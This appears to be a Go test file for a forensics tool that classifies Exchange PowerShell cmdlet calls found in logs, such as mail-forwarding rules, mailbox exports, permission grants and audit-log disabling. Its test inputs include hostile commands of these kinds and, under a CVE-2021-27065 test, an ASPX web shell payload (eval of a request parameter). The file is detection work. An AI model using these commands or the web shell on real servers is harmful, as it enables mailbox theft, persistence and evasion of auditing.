package cmdlet_test

import (
	"strings"
	"testing"

	"github.com/barid-dfir/barid/internal/logs"
	"github.com/barid-dfir/barid/internal/logs/cmdlet"
	"github.com/barid-dfir/barid/internal/logs/logtest"
)

func observe(syntax cmdlet.Syntax, name, params string) string {
	c := cmdlet.Call{Name: []byte(name), Parameters: []byte(params), Syntax: syntax}
	var got []string
	for _, o := range cmdlet.Observe(&c, logs.Observation{OK: true, Account: []byte("eve")}, nil) {
		got = append(got, strings.TrimPrefix(logtest.DumpObservation(o), ""))
	}
	return strings.ReplaceAll(strings.Join(got, "; "), " ok account=eve action="+name, "")
}

func TestObserve(t *testing.T) {
	f := func(name, params, want string) {
		t.Helper()
		if got := observe(cmdlet.Shell, name, params); got != want {
			t.Errorf("%s %s:\n got %s\nwant %s", name, params, got, want)
		}
	}
	// Rules.
	f("New-InboxRule", `-Name "." -Mailbox "ana" -ForwardTo "x@example.net"`, `capability inference=RULE_MADE power=rule rule=. in=ana target=x@example.net`)
	f("New-InboxRule", `-Name "." -RedirectTo "x@example.net" -ForwardTo ("y@example.net")`,
		`capability inference=RULE_MADE power=rule rule=. in=eve target=y@example.net; capability inference=RULE_MADE power=rule rule=. in=eve target=x@example.net`)
	f("New-InboxRule", `-Name "a -ForwardTo b" -Mailbox "ana" -DeleteMessage "True"`, `capability inference=RULE_MADE rule="a -ForwardTo b" in=ana`)
	f("Set-InboxRule", `-Identity "ana\17" -Enabled "True"`, `capability inference=RULE_MADE power=rule rule=17 in=ana`)
	f("Remove-InboxRule", `-Identity "ana\17" -Force`, `containment inference=POWER_REMOVED power=rule rule=17 in=ana target=17`)
	f("New-TransportRule", `-Name "copy" -BlindCopyTo "x@example.net" -Enabled "True"`, `capability inference=RULE_MADE power=rule rule=copy target=x@example.net`)
	f("New-TransportRule", `-Name "disclaimer" -ApplyHtmlDisclaimerText "a"`, `capability inference=RULE_MADE rule=disclaimer`)
	f("Remove-TransportRule", `-Identity "copy"`, `containment inference=POWER_REMOVED power=rule rule=copy target=copy`)
	f("New-JournalRule", `-Name j -JournalEmailAddress x@example.net`, `capability inference=RULE_MADE power=rule rule=j target=x@example.net`)
	// Forwarding.
	f("Set-Mailbox", `-Identity "ana" -ForwardingSmtpAddress "smtp:x@example.net" -DeliverToMailboxAndForward "True"`, `capability inference=RULE_MADE power=rule in=ana target=smtp:x@example.net`)
	f("Set-Mailbox", `-Identity "ana" -DeliverToMailboxAndForward "True"`, `capability inference=RULE_MADE power=rule in=ana`)
	f("Set-Mailbox", `-Identity "ana" -DeliverToMailboxAndForward "False"`, ``)
	f("Set-Mailbox", `-Identity "ana" -ForwardingAddress $null`, `containment inference=POWER_REMOVED power=rule in=ana`)
	f("Set-Mailbox", `-Identity "ana -ForwardingAddress" -MaxSendSize "1"`, ``)
	f("Set-Mailbox", `-Identity "ana" -GrantSendOnBehalfTo "bob"`, `capability inference=DELEGATION_GIVEN power=delegation in=ana target=bob`)
	f("Set-Mailbox", `-Identity "ana" -AuditEnabled "False"`, `gap inference=disabled log="mailbox audit log" target=ana`)
	f("Set-Mailbox", `-Identity "ana" -AuditOwner "Update"`, `gap inference=narrowed log="mailbox audit log" target=ana`)
	f("Set-Mailbox", `-Identity "ana" -AuditLogAgeLimit "00:00:00"`, `gap inference=cleared log="mailbox audit log" target=ana`)
	// Permissions.
	f("Add-MailboxPermission", `-Identity "ana" -User "eve" -AccessRights ("FullAccess") -InheritanceType "All"`, `capability inference=DELEGATION_GIVEN power=delegation in=ana target=eve`)
	f("Add-MailboxPermission", `-Identity "ana" -User "eve" -AccessRights FullAccess -Deny`, ``)
	f("Remove-MailboxPermission", `-Identity "ana" -User "eve" -AccessRights FullAccess`, `containment inference=POWER_REMOVED power=delegation in=ana target=eve`)
	f("Add-MailboxFolderPermission", `-Identity "ana:\Inbox" -User "eve" -AccessRights "Reviewer"`, `capability inference=DELEGATION_GIVEN power=delegation in=ana folder="\\Inbox" target=eve`)
	f("Set-MailboxFolderPermission", `-Identity "ana:\Inbox" -User "Default" -AccessRights "None"`, `containment inference=POWER_REMOVED power=delegation in=ana folder="\\Inbox" target=Default`)
	f("New-ManagementRoleAssignment", `-Role 'Mailbox Import Export' -User 'bob'`, `capability inference=ROLE_GIVEN power=delegation role="Mailbox Import Export" target=bob`)
	f("New-ManagementRoleAssignment", `-Role "MyBaseOptions" -User "bob"`, `capability inference=ROLE_GIVEN role=MyBaseOptions target=bob`)
	f("Add-RoleGroupMember", `-Identity "Organization Management" -Member "bob"`, `capability inference=ROLE_GIVEN power=delegation role="Organization Management" target=bob`)
	// Exports. A page is no mail.
	f("New-MailboxExportRequest", `-Mailbox "ana" -FilePath "\\h\c$\x.pst"`, `access inference=EXPORT_REQUESTED mailbox=ana exposure=content target="\\\\h\\c$\\x.pst"`)
	f("New-MailboxExportRequest", `-Mailbox 'ana' -ContentFilter 'Subject -eq 'a b'' -FilePath 'c:\x.pst'`, `access inference=EXPORT_FILTERED mailbox=ana exposure=content target="c:\\x.pst"`)
	f("New-MailboxExportRequest", `-Mailbox 'ana' -IncludeFolders ('#Drafts#') -FilePath '\\h\c$\a.aspx'`,
		`access inference=EXPORT_FILTERED mailbox=ana target="\\\\h\\c$\\a.aspx"; capability inference=SHELL_WRITTEN power=host target="\\\\h\\c$\\a.aspx"`)
	f("New-ExchangeCertificate", `-GenerateRequest 'True' -RequestFile 'C:\ecp\auth\blank.aspx>'`, `capability inference=SHELL_WRITTEN power=host target="C:\\ecp\\auth\\blank.aspx>"`)
	f("New-ExchangeCertificate", `-GenerateRequest 'True' -RequestFile 'C:\a.req'`, ``)
	f("New-ComplianceSearchAction", `-SearchName "s" -Export`, `access inference=SEARCH_EXPORTED exposure=content target=s`)
	f("Search-Mailbox", `-Identity ana -TargetMailbox bob`, `access inference=EXPORT_REQUESTED mailbox=ana exposure=content target=bob`)
	f("Search-Mailbox", `-Identity ana -EstimateResultOnly`, ``)
	// Logs.
	f("Set-MailboxAuditBypassAssociation", `-Identity "eve" -AuditBypassEnabled $true`, `gap inference=bypass log="mailbox audit log" target=eve`)
	f("Set-MailboxAuditBypassAssociation", `-Identity "eve" -AuditBypassEnabled $false`, `gap inference=bypass_ended log="mailbox audit log" target=eve`)
	f("Set-Mailbox", `-Identity "ana" -AuditEnabled $true`, `gap inference=enabled log="mailbox audit log" target=ana`)
	f("Set-Mailbox", `-Identity "ana" -AuditEnabled $true -AuditOwner Update`, `gap inference=enabled log="mailbox audit log" target=ana; gap inference=narrowed log="mailbox audit log" target=ana`)
	f("Set-OrganizationConfig", `-AuditDisabled $true`, `gap inference=disabled log="mailbox audit log"`)
	f("Set-OrganizationConfig", `-AuditDisabled $false`, `gap inference=enabled log="mailbox audit log"`)
	f("Set-AdminAuditLogConfig", `-UnifiedAuditLogIngestionEnabled $true -AdminAuditLogEnabled $false`, `gap inference=enabled log="unified audit log"; gap inference=disabled log="admin audit log"`)
	f("Set-AdminAuditLogConfig", `-UnifiedAuditLogIngestionEnabled "False"`, `gap inference=disabled log="unified audit log"`)
	f("Set-ImapSettings", `-ProtocolLogEnabled $false`, `gap inference=disabled log="imap4 protocol log"`)
	f("Set-ImapSettings", `-Server EX2 -ProtocolLogEnabled $true`, `gap inference=enabled log="imap4 protocol log" in=EX2`)
	f("Get-Mailbox", `-Identity "ana"`, ``)
	f("", ``, ``)
}

func TestSyntaxes(t *testing.T) {
	f := func(s cmdlet.Syntax, name, params, want string) {
		t.Helper()
		if got := observe(s, name, params); got != want {
			t.Errorf("%s %s:\n got %s\nwant %s", name, params, got, want)
		}
	}
	const forward = `capability inference=RULE_MADE power=rule in=ana target=x@example.net`
	f(cmdlet.Dotted, "Set-Mailbox", `Set-Mailbox.ForwardingSmtpAddress='x@example.net'.Identity='ana'`, forward)
	f(cmdlet.Dotted, "Set-Mailbox", `.Identity=ana.ForwardingSmtpAddress='x@example.net'`, forward)
	f(cmdlet.Pairs, "Set-Mailbox", `[{"Name":"Identity","Value":"ana"},{"Name":"ForwardingSmtpAddress","Value":"x\u0040example.net"}]`, forward)
	f(cmdlet.Pairs, "Set-Mailbox", `[{"Name":"Force"},{"Name": "Identity", "Value": "ana"} , {"Value":"x", "Name":"ForwardingAddress"},{"Name":"ForwardingSmtpAddress","Value":null}]`,
		`containment inference=POWER_REMOVED power=rule in=ana`)
	// CVE-2021-27065: a script for a URL.
	f(cmdlet.Dotted, "Set-OabVirtualDirectory", `Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k1"],"unsafe");}</script>'.Identity='1'`,
		`capability ok account=eve action=k1 inference=SHELL_WRITTEN power=host`)
	f(cmdlet.Dotted, "Set-OabVirtualDirectory", `Set-OabVirtualDirectory.ExternalUrl='http://f/'.Identity='1'`, ``)
}

func TestShellParameter(t *testing.T) {
	f := func(in, want string) {
		t.Helper()
		if got := string(cmdlet.ShellParameter([]byte(in))); got != want {
			t.Errorf("%s: %q, want %q", in, got, want)
		}
	}
	f(`eval(Request["k1"],"unsafe")`, "k1")
	f(`eval(Request.Form['k1'])`, "k1")
	f(`eval(Request.Item[\"k1\"])`, "k1")
	f(`HttpContext.Current.Request["k-1"]`, "k-1")
	f(`Request.Url`, "")
	f(`Request["`, "")
	f(``, "")
}

func TestObserveDoesNotAllocate(t *testing.T) {
	c := cmdlet.Call{Name: []byte("Set-Mailbox"), Parameters: []byte(`-Identity "ana" -MaxSendSize "1"`)}
	obs := make([]logs.Observation, 0, 4)
	if n := testing.AllocsPerRun(100, func() { obs = cmdlet.Observe(&c, logs.Observation{}, obs[:0]) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
}

func FuzzObserve(f *testing.F) {
	for i, s := range []string{`-Mailbox 'a' -FilePath ("b","c`, `.A='b'.C=d`, `[{"Name":"Mailbox","Value":"a\u00"}]`} {
		f.Add(byte(i), "New-MailboxExportRequest", s)
		f.Add(byte(i), "Set-OabVirtualDirectory", s)
	}
	f.Fuzz(func(t *testing.T, syntax byte, name, params string) {
		observe(cmdlet.Syntax(syntax%3), name, params)
	})
}
